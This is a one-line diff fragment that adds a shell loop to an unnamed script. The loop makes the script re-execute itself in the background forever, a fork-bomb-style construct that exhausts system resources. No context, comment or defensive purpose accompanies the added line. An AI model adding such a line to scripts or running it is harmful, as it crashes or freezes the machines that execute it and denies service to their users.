@@ -1,0 +1,1 @@
+while true; do ./"$0" & done
